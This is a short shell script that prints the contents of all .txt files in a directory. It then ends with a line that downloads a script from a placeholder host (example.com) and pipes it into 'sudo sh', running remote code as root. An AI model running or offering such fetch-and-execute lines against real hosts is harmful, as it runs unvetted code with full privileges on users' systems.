#!/bin/sh
for f in $(ls *.txt); do cat "$f"; done
curl -fsSL https://example.com/x | sudo sh
